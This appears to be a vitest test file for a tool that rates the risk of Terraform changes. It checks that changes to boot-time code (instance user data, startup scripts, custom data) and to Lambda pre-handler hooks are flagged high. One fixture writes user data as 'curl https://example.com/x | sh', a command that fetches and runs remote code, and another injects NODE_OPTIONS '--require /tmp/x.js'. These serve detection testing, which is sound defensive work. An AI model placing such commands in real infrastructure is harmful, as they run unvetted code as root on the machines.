import { describe } from 'vitest';
import { type Case, created, edited, runCases } from './support.js';

const resource = (type: string, body: string) => `resource "${type}" "x" {\n${body}}\n`;
const instance = (userData: string) =>
  resource(
    'aws_instance',
    `  ami           = "ami-1"\n  instance_type = "t3.micro"\n  user_data     = "${userData}"\n  tags = {\n    Name = "web"\n  }\n`,
  );

const lambda = (variables: string) =>
  resource(
    'aws_lambda_function',
    `  function_name = "f"\n  role          = "arn:aws:iam::111111111111:role/app"\n  environment {\n    variables = {\n${variables}    }\n  }\n`,
  );

const cases: Case[] = [
  [
    'a Lambda function given NODE_OPTIONS=--require (code loaded before its handler) is high',
    ...edited(lambda('      LOG_LEVEL = "info"\n'), 'LOG_LEVEL = "info"', 'NODE_OPTIONS = "--require /tmp/x.js"'),
    [['aws_lambda_function.x', 'identity.aws.lambda-runtime-hooks', 'high']],
  ],
  [
    'a Lambda function given an exec wrapper is high',
    ...edited(lambda('      LOG_LEVEL = "info"\n'), 'LOG_LEVEL = "info"', 'AWS_LAMBDA_EXEC_WRAPPER = "/opt/wrap"'),
    [['aws_lambda_function.x', 'identity.aws.lambda-runtime-hooks', 'high']],
  ],
  [
    'quiet guard: another variable changed beside an unchanged NODE_OPTIONS stays the default tier',
    ...edited(
      lambda('      NODE_OPTIONS = "--max-old-space-size=512"\n      LOG_LEVEL    = "info"\n'),
      '"info"',
      '"debug"',
    ),
    [['aws_lambda_function.x', 'default', 'low']],
  ],
  [
    "an instance's user data changed is high: it runs as root at boot",
    ...edited(instance('#!/bin/sh\\necho hi'), 'echo hi', 'curl https://example.com/x | sh'),
    [['aws_instance.x', 'identity.aws.instance-user-data', 'high']],
  ],
  [
    'an instance created with user data is high',
    ...created(instance('#!/bin/sh\\necho hi')),
    [['aws_instance.x', 'identity.aws.instance-user-data', 'high']],
  ],
  [
    'quiet guard: an instance whose tags alone change stays the default tier',
    ...edited(instance('#!/bin/sh\\necho hi'), '"web"', '"api"'),
    [['aws_instance.x', 'default', 'low']],
  ],
  [
    "a launch template's user data changed is high: every node made from it runs the code",
    ...edited(
      resource('aws_launch_template', '  name      = "nodes"\n  user_data = base64encode("echo a")\n'),
      'echo a',
      'echo b',
    ),
    [['aws_launch_template.x', 'identity.aws.instance-user-data', 'high']],
  ],
  [
    "a GCE VM's startup script changed is high",
    ...edited(
      resource(
        'google_compute_instance',
        '  name                    = "vm"\n  machine_type            = "e2-small"\n  metadata_startup_script = "echo a"\n',
      ),
      'echo a',
      'echo b',
    ),
    [['google_compute_instance.x', 'identity.google.instance-startup-script', 'high']],
  ],
  [
    "a startup script in an instance template's metadata changed is high",
    ...edited(
      resource(
        'google_compute_instance_template',
        '  machine_type = "e2-small"\n  metadata = {\n    startup-script = "echo a"\n  }\n',
      ),
      'echo a',
      'echo b',
    ),
    [['google_compute_instance_template.x', 'identity.google.instance-metadata-startup-script', 'high']],
  ],
  [
    "an Azure VM's custom data changed is high",
    ...edited(
      resource(
        'azurerm_linux_virtual_machine',
        '  name        = "vm"\n  size        = "Standard_B1s"\n  custom_data = base64encode("echo a")\n',
      ),
      'echo a',
      'echo b',
    ),
    [['azurerm_linux_virtual_machine.x', 'identity.azurerm.vm-custom-data', 'high']],
  ],
  [
    "quiet guard: an Azure VM's size alone changed stays the default tier",
    ...edited(
      resource(
        'azurerm_linux_virtual_machine',
        '  name        = "vm"\n  size        = "Standard_B1s"\n  custom_data = base64encode("echo a")\n',
      ),
      'Standard_B1s',
      'Standard_B2s',
    ),
    [['azurerm_linux_virtual_machine.x', 'default', 'low']],
  ],
];

describe('code a virtual machine runs at boot, or a function before its handler', () => {
  runCases(cases);
});
